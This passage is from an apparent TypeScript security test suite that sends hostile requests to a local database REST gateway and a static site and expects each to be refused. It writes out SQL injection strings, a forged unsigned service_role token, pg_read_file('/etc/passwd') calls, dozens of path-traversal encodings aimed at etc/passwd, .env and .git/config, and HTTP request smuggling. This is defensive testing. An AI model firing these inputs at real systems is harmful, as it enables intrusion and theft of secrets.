    request: fetchRequest("PUT", TABLE_PATH, { ...ANON, ...JSON_TYPE }, JSON.stringify(lead())),
    expect: refused(405, "PGRST117"),
  },
  ...["TRACE", "PROPFIND", "MKCOL", "LOCK", "COPY", "MOVE", "SEARCH", "PURGE"].map((method) => ({
    name: `method: ${method} on the table`,
    request: restRaw(method),
    expect: refused(405, "PGRST117"),
  })),
  { name: "method: an unknown verb FOO", request: restRaw("FOO"), expect: http(400) },
  { name: "method: lower-case post", request: restRaw("post"), expect: http(400) },
  {
    name: "method: CONNECT",
    request: raw(head("CONNECT 127.0.0.1:5432 HTTP/1.1")),
    expect: { kind: "closed" },
  },
  {
    name: "method: PATCH as anon (no update grant)",
    request: fetchRequest("PATCH", `${TABLE_PATH}?id=gt.0`, { ...ANON, ...JSON_TYPE }, '{"name":"pwned"}'),
    expect: refused(401, "42501"),
  },
  {
    name: "method: DELETE as anon without a filter",
    request: fetchRequest("DELETE", TABLE_PATH, ANON),
    expect: refused(401, "42501"),
  },
  {
    name: "method: PATCH as anon with 5 000 nested arrays",
    request: fetchRequest(
      "PATCH",
      `${TABLE_PATH}?id=gt.0`,
      { ...ANON, ...JSON_TYPE },
      `{"name":${"[".repeat(5000)}${"]".repeat(5000)}}`,
    ),
    expect: refused(400, "PGRST102"),
  },
  ...["POST", "PUT", "DELETE", "PATCH", "OPTIONS"].map((method) => ({
    name: `method: ${method} on a page of the site`,
    request: fetchRequest(method, "/index.html", {}, method === "POST" || method === "PUT" ? "x" : undefined),
    expect: { kind: "site", status: 405, body: "Method Not Allowed" } as Outcome,
  })),
  ...["TRACE", "PROPFIND", "SEARCH"].map((method) => ({
    name: `method: ${method} on the site`,
    request: raw(head(`${method} / HTTP/1.1`)),
    expect: { kind: "site", status: 405, body: "Method Not Allowed" } as Outcome,
  })),
];

// ── Keys ──────────────────────────────────────────────────────────────────────────────────────

const NO_KEY = "No API key found in request";
const BAD_KEY = "Invalid API key";
const validBody = () => JSON.stringify(lead());
const post = (headers: Record<string, string>, query = "") =>
  fetchRequest("POST", `${TABLE_PATH}${query}`, { ...JSON_TYPE, ...headers }, validBody());

const keys: HostileCase[] = [
  { name: "key: none", request: post({}), expect: { kind: "gateway", message: NO_KEY } },
  {
    name: "key: empty apikey header",
    request: post({ apikey: "" }),
    expect: { kind: "gateway", message: NO_KEY },
  },
  {
    name: "key: empty apikey parameter",
    request: post({}, "?apikey="),
    expect: { kind: "gateway", message: NO_KEY },
  },
  {
    name: "key: wrong",
    request: post({ apikey: "not-the-key-at-all-000000" }),
    expect: { kind: "gateway", message: BAD_KEY },
  },
  {
    name: "key: the anon key in upper case",
    request: post({ apikey: LOCAL_ANON_KEY.toUpperCase() }),
    expect: { kind: "gateway", message: BAD_KEY },
  },
  {
    name: "key: the anon key with one character changed",
    request: post({ apikey: `${LOCAL_ANON_KEY.slice(0, -1)}X` }),
    expect: { kind: "gateway", message: BAD_KEY },
  },
  {
    name: "key: the anon key twice over",
    request: post({ apikey: LOCAL_ANON_KEY.repeat(2) }),
    expect: { kind: "gateway", message: BAD_KEY },
  },
  {
    name: "key: 12 000 characters",
    request: post({ apikey: "k".repeat(12_000) }),
    expect: { kind: "gateway", message: BAD_KEY },
  },
  {
    name: "key: wrong in the query string",
    request: post({}, "?apikey=wrong"),
    expect: { kind: "gateway", message: BAD_KEY },
  },
  {
    name: "key: two apikey headers, one valid (joined, so invalid)",
    request: rawWithBody(
      `POST ${TABLE_PATH} HTTP/1.1`,
      [`apikey: ${LOCAL_ANON_KEY}`, "apikey: wrong", "Content-Type: application/json"],
      validBody(),
    ),
    expect: { kind: "gateway", message: BAD_KEY },
  },
  {
    name: "key: an empty bearer token",
    request: post({ ...ANON, Authorization: "Bearer" }),
    expect: refused(401, "PGRST301"),
  },
  {
    name: "key: a bearer token in one part",
    request: post({ ...ANON, Authorization: "Bearer garbage" }),
    expect: refused(401, "PGRST301"),
  },
  {
    name: "key: a forged three-part token",
    request: post({ ...ANON, Authorization: "Bearer a.b.c" }),
    expect: refused(401, "PGRST301"),
  },
  {
    name: "key: an unsigned alg=none token claiming service_role",
    request: post({
      ...ANON,
      Authorization: `Bearer ${Buffer.from('{"alg":"none"}').toString("base64url")}.${Buffer.from('{"role":"service_role"}').toString("base64url")}.`,
    }),
    expect: refused(401, "PGRST301"),
  },
  {
    name: "key: the service key as a bearer with a wrong apikey",
    request: post({ apikey: "wrong", Authorization: `Bearer ${LOCAL_SERVICE_ROLE_KEY}` }),
    expect: { kind: "gateway", message: BAD_KEY },
  },
];

// ── Query strings and negotiation ─────────────────────────────────────────────────────────────

const read = (query: string, headers: Record<string, string> = {}, key = LOCAL_ANON_KEY) =>
  fetchRequest("GET", `${TABLE_PATH}${query}`, { apikey: key, ...headers });

const BAD_QUERIES: Array<[string, string, Outcome]> = [
  ["a select with a SQL comment", "?select=name)--", refused(400, "PGRST100")],
  ["a select calling a function", "?select=*,pg_sleep(10)", refused(400, "PGRST100")],
  ["a select of a missing column", "?select=password", refused(400, "42703")],
  ["an order with a statement", `?order=${encodeURIComponent("name;drop table x")}`, refused(400, "42703")],
  ["an order with an unknown modifier", "?order=name.sideways", refused(400, "PGRST100")],
  ["a negative limit", "?limit=-1", refused(400, "PGRST100")],
  ["a limit in exponent form", "?limit=1e9", refused(400, "PGRST100")],
  ["an offset of ten digits", "?offset=9999999999", refused(400, "PGRST100")],
  ["a limit that is a word", "?limit=all", refused(400, "PGRST100")],
  ["an in filter (not implemented)", "?id=in.(1,2)", refused(400, "PGRST100")],
  ["an or filter (not implemented)", "?or=(id.eq.1,id.eq.2)", refused(400, "PGRST100")],
  ["a not filter (not implemented)", "?id=not.eq.1", refused(400, "PGRST100")],
  ["is with a bad value", "?email=is.evil", refused(400, "PGRST100")],
  ["a filter without an operator", "?email=ada", refused(400, "PGRST100")],
  ["a filter on a missing column", "?password=eq.x", refused(400, "42703")],
  [
    "a quoted SQL injection (parameterised: matches nothing)",
    `?email=eq.${encodeURIComponent("' or '1'='1")}`,
    { kind: "read", status: 200, body: "[]" },
  ],
  [
    "a like with wildcards only (RLS: anon sees nothing)",
    "?email=ilike.*",
    { kind: "read", status: 200, body: "[]" },
  ],
  [
    "a filter of 10 000 characters",
    `?name=eq.${"x".repeat(10_000)}`,
    { kind: "read", status: 200, body: "[]" },
  ],
  [
    "a select repeating a column 2 000 times",
    `?select=${"name,".repeat(2000)}name`,
    { kind: "read", status: 200, body: "[]" },
  ],
];

const queries: HostileCase[] = [
  ...BAD_QUERIES.map(([what, query, expect]) => ({ name: `query: ${what}`, request: read(query), expect })),
  {
    name: "query: a quoted SQL injection with the service key (matches nothing)",
    request: read(`?email=eq.${encodeURIComponent("x' or 1=1 --")}`, {}, LOCAL_SERVICE_ROLE_KEY),
    expect: { kind: "read", status: 200, body: "[]" },
  },
  {
    name: "negotiation: Accept text/csv",
    request: read("", { Accept: "text/csv" }),
    expect: refused(406, "PGRST107"),
  },
  {
    name: "negotiation: Accept of 2 000 unknown types",
    request: read("", { Accept: "x/y,".repeat(2000) }),
    expect: refused(406, "PGRST107"),
  },
  {
    name: "negotiation: a single object when anon sees none",
    request: read("", { Accept: "application/vnd.pgrst.object+json" }),
    expect: refused(406, "PGRST116"),
  },
  {
    name: "negotiation: Accept-Profile of a private schema",
    request: read("", { "Accept-Profile": "private" }),
    expect: refused(406, "PGRST106"),
  },
  {
    name: "negotiation: Content-Profile pg_catalog on insert",
    request: insert(validBody(), { "Content-Profile": "pg_catalog" }),
    expect: refused(406, "PGRST106"),
  },
  {
    name: "negotiation: return=representation as anon (RLS refuses the read-back; nothing stored)",
    request: insert(validBody(), { Prefer: "return=representation" }),
    expect: refused(401, "42501"),
  },
  {
    name: "negotiation: return=representation with Accept text/csv (nothing stored)",
    request: insert(validBody(), { Prefer: "return=representation", Accept: "text/csv" }),
    expect: refused(406, "PGRST107"),
  },
  {
    name: "negotiation: return=representation selecting a function",
    request: insert(validBody(), { Prefer: "return=representation" }, "?select=pg_read_file('/etc/passwd')"),
    expect: refused(400, "PGRST100"),
  },
  (() => {
    const sent = lead();
    return {
      name: "negotiation: a Prefer header of 1 000 unknown preferences (ignored)",
      request: insert(JSON.stringify(sent), { Prefer: "tx=rollback, ".repeat(1000) + "missing=default" }),
      expect: stored(row(sent)),
    };
  })(),
  {
    name: "preflight: OPTIONS with hostile requested headers",
    request: fetchRequest("OPTIONS", TABLE_PATH, {
      "Access-Control-Request-Headers": "x-evil, apikey",
      Origin: "http://evil.example",
    }),
    expect: { kind: "read", status: 200, body: "" },
  },
];

// ── REST paths ────────────────────────────────────────────────────────────────────────────────

const REST_PATHS: Array<[string, string]> = [
  ["/rest/v1", "PGRST126"],
  ["/rest/v1/", "PGRST126"],
  ["/rest/v1/nope", "PGRST205"],
  ["/rest/v1/pg_catalog.pg_roles", "PGRST205"],
  ["/rest/v1/CONTACT_SUBMISSIONS", "PGRST205"],
  ["/rest/v1/constructor", "PGRST205"],
  ["/rest/v1/__proto__", "PGRST205"],
  ["/rest/v1/toString", "PGRST205"],
  ["/rest/v1/hasOwnProperty", "PGRST205"],
  ["/rest/v1/contact_submissions%00", "PGRST205"],
  ["/rest/v1/%ff", "PGRST205"],
  ["/rest/v1/contact_submissions;select", "PGRST205"],
  ["/rest/v1/contact_submissions%2f1", "PGRST205"],
  ["/rest/v1/..%2f..%2fsentinel.txt", "PGRST205"],
  ["/rest/v1/contact_submissions/1", "PGRST125"],
  ["/rest/v1//contact_submissions", "PGRST125"],
  ["/rest/v1/rpc/pg_sleep", "PGRST202"],
  [`/rest/v1/${"t".repeat(8000)}`, "PGRST205"],
];

const restPaths: HostileCase[] = REST_PATHS.map(([path, code]) => ({
  name: `REST path: ${path.length > 60 ? `${path.slice(0, 30)}… (${path.length} characters)` : path}`,
  request: raw(head(`GET ${path} HTTP/1.1`, [`apikey: ${LOCAL_ANON_KEY}`])),
  expect: refused(404, code),
}));

// ── Static site: traversal, dotfiles, host files ──────────────────────────────────────────────

const NOT_FOUND: Outcome = {
  kind: "site",
  status: 404,
  body: "<!doctype html><title>Not found</title><h1>Fixture 404</h1>",
};

/** Ways of spelling "go up a directory", raw on the wire. */
const TRAVERSALS = [
  "/../",
  "/../../",
  "/../../../../../../",
  "/..%2f",
  "/..%2F..%2F",
  "/%2e%2e/",
  "/%2E%2E/",
  "/%2e%2e%2f",
  "/.%2e/",
  "/%2e./",
  "/%252e%252e/",
  "/%252e%252e%252f",
  "/..%5c",
  "/..%5c..%5c",
  "/%5c..%5c",
  "/..%255c",
  "/%c0%ae%c0%ae/",
  "/%c0%ae%c0%ae%c0%af",
  "/..%c0%af",
  "/%e0%80%ae%e0%80%ae/",
  "/..%00/",
  "/%00/../",
  "/....//",
  "/..;/",
  "/%u002e%u002e/",
  "//..//",
  "/./../",
  "/blog/../../",
  "/_astro/../../",
  "/up/",
];

const TARGETS = ["sentinel.txt", "sentinel", "etc/passwd"];

const traversal: HostileCase[] = TRAVERSALS.flatMap((prefix) =>
  TARGETS.map((target) => ({
    name: `traversal: GET ${prefix}${target}`,
    request: raw(head(`GET ${prefix}${target} HTTP/1.1`)),
    expect: NOT_FOUND,
  })),
);

const PRIVATE_PATHS = [
  "/.env",
  "/.env/",
  "//.env",
  "/%2eenv",
  "/%2Eenv",
  "/.%65nv",
  "/.git/config",
  "/.git%2fconfig",
  "/blog/../.env",
  "/_astro/../.env",
  "/.env%00.html",
  "/_headers",
  "/_headers/",
  "/%5fheaders",
  "/_headers%00",
  "/_redirects",
  "/link.txt",
  "/up/sentinel.txt",
  "/index.html%00",
  "/index.html%00.js",
  "/%00",
  "/%ff",
  "/%",
  "/%zz",
  "http://evil.example/../sentinel.txt",
  `/${"a".repeat(8000)}`,
];

const privatePaths: HostileCase[] = [
  ...PRIVATE_PATHS.map((path) => ({
    name: `private file: GET ${path.length > 60 ? `/a… (${path.length} characters)` : path}`,
    request: raw(head(`GET ${path} HTTP/1.1`)),
    expect: NOT_FOUND,
  })),
  // The adapter refuses a raw backslash before the path even reaches the site.
  ...["/..\\sentinel.txt", "/..\\..\\etc\\passwd", "/\\..\\sentinel.txt"].map((path) => ({
    name: `traversal: GET ${path} (raw backslashes)`,
    request: raw(head(`GET ${path} HTTP/1.1`)),
    expect: http(400),
  })),
];

// ── The HTTP layer: malformed requests, long lines, smuggling ─────────────────────────────────

const P = `POST ${TABLE_PATH} HTTP/1.1`;
const apiLines = [`apikey: ${LOCAL_ANON_KEY}`, "Content-Type: application/json"];

const HTTP_LEVEL: Array<[string, HostileRequest, Outcome]> = [
  ["no Host header", raw("GET / HTTP/1.1\r\nConnection: close\r\n\r\n"), http(400)],
  [
    "a Host header with a path",
    raw("GET / HTTP/1.1\r\nHost: evil/../x\r\nConnection: close\r\n\r\n"),
    http(400),
  ],
  ["an HTTP/0.9 request", raw("GET /\r\n\r\n"), http(400)],
  ["HTTP/3.0 in the request line", raw("GET / HTTP/3.0\r\nHost: a\r\n\r\n"), http(400)],
  ["the HTTP/2 preface", raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), http(400)],
  [
    "a TLS ClientHello",
    raw(Buffer.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03])),
    http(400),
  ],
  ["a request line without a path", raw("GET\r\n\r\n"), http(400)],
  ["bare LF line ends", raw("GET / HTTP/1.1\nHost: a\nConnection: close\n\n"), http(400)],
  ["a space in the path", raw(head("GET /a b HTTP/1.1")), http(400)],
  ["a tab in the path", raw(head("GET /a\tb HTTP/1.1")), http(400)],
  ["raw UTF-8 in the path", raw(Buffer.from(head("GET /caf\u00e9 HTTP/1.1"), "utf8")), http(400)],
  [
    "raw invalid UTF-8 in the path",
    raw(
      Buffer.concat([
        Buffer.from("GET /"),
        Buffer.from([0xff, 0xfe]),
        Buffer.from(` HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`),
      ]),
    ),
    http(400),
  ],
  ["OPTIONS *", raw(head("OPTIONS * HTTP/1.1")), http(400)],
  ["a header line without a colon", raw(head("GET / HTTP/1.1", ["Foo"])), http(400)],
  ["a header name with a space", raw(head("GET / HTTP/1.1", ["Fo o: x"])), http(400)],
  ["an obsolete folded header", raw(head("GET / HTTP/1.1", ["X-A: a", " folded"])), http(400)],
  ["a NUL in a header value", raw(head("GET / HTTP/1.1", ["X-A: a\u0000b"])), http(400)],
  ["a header value of 20 000 bytes", raw(head("GET / HTTP/1.1", [`X-A: ${"a".repeat(20_000)}`])), http(431)],
  [
    "3 000 header lines",
    raw(
      head(
        "GET / HTTP/1.1",
        Array.from({ length: 3000 }, (_, i) => `X-${i}: 1`),
      ),
    ),
    http(431),
  ],
  ["a URL of 20 000 characters", raw(head(`GET /${"a".repeat(20_000)} HTTP/1.1`)), http(431)],
  [
    "a query string of 20 000 characters",
    raw(head(`GET ${TABLE_PATH}?name=eq.${"a".repeat(20_000)} HTTP/1.1`, [`apikey: ${LOCAL_ANON_KEY}`])),
    http(431),
  ],
  [
    "Content-Length and Transfer-Encoding together (smuggling)",
    rawWithBody(P, [...apiLines, "Content-Length: 4", "Transfer-Encoding: chunked"], "0\r\n\r\n"),
    http(400),
  ],
  [
    "two different Content-Lengths",
    rawWithBody(P, [...apiLines, "Content-Length: 2", "Content-Length: 3"], "{}"),
    http(400),
  ],
  ["a negative Content-Length", rawWithBody(P, [...apiLines, "Content-Length: -1"], "{}"), http(400)],
  ["a Content-Length that is a word", rawWithBody(P, [...apiLines, "Content-Length: abc"], "{}"), http(400)],
  [
    "an invalid chunk size",
    rawWithBody(P, [...apiLines, "Transfer-Encoding: chunked"], "zz\r\n{}\r\n0\r\n\r\n"),
    http(400),
  ],
  [
    "Transfer-Encoding gzip without chunked",
    rawWithBody(P, [...apiLines, "Transfer-Encoding: gzip"], "{}"),
    http(400),
  ],
  ["an unknown Expect", rawWithBody(P, [...apiLines, "Expect: evil"], "{}"), http(417)],
  [
    "a body cut short, then the client half-closes",
    rawWithBody(P, [...apiLines, "Content-Length: 200"], '{"name":"Ada', true),
    http(400),
  ],
  [
    "a chunked body cut short, then the client half-closes",
    rawWithBody(P, [...apiLines, "Transfer-Encoding: chunked"], '40\r\n{"name":"Ada', true),
    http(400),
  ],
];

const httpLevel: HostileCase[] = [
  ...HTTP_LEVEL.map(([what, request, expect]) => ({ name: `HTTP: ${what}`, request, expect })),
  (() => {
    const sent = lead();
    return {
      name: "HTTP: Expect 100-continue (answered 100, then stored)",
      request: rawWithBody(P, [...apiLines, "Expect: 100-continue"], JSON.stringify(sent)),
      expect: stored(row(sent)),
    };
  })(),
];

/** Every case, in a fixed order. */
export const HOSTILE_CASES: HostileCase[] = [
  ...malformed,
  ...truncated,
  ...deep,
  ...wrongTypes,
  ...missing,
  ...unknownKeys,
  ...keyCases,
  ...arrays,
  ...unicode,
  ...badBytes,
  ...lengths,
  ...bodies,
  ...csv,
  ...contentTypes,
  ...methods,
  ...keys,
  ...queries,
  ...restPaths,
  ...traversal,
  ...privatePaths,
  ...httpLevel,
];
